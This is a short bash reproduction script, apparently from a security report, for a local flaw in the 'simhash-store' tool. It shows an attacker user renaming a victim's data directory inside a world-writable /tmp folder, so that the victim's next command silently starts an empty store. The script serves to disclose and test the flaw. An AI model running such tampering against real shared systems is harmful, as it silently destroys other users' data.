#!/bin/bash
# Another local user (h15mallory) owns, or may write without the sticky bit, a directory above
# the victim's (h15alice) data directory. She renames the victim's data directory away; the
# victim's next command silently starts a new, empty store in its place.
# Run as root; users h15alice (with ~/venv holding simhash-store) and h15mallory must exist.
set -u
SHARED=/tmp/h15shared
su h15mallory -c "mkdir -m 0777 $SHARED"
su - h15alice -c "export SIMHASH_STORE_DATA_DIR=$SHARED/alice-store; cd ~; echo 'the quick brown fox jumps over the lazy dog again and again' > a.txt; ~/venv/bin/simhash-store add a.txt; ~/venv/bin/simhash-store stats 2>&1 | grep -i documents | head -2"
echo "--- mallory renames the data directory away"
su h15mallory -c "mv $SHARED/alice-store $SHARED/gone && ls -la $SHARED"
echo "--- the victim's next command"
su - h15alice -c "export SIMHASH_STORE_DATA_DIR=$SHARED/alice-store; ~/venv/bin/simhash-store stats 2>&1 | grep -i 'documents\|error' | head -2; echo exit \$?"
# cleanup (exact paths)
rm -rf "$SHARED/gone" "$SHARED/alice-store"; rmdir "$SHARED"
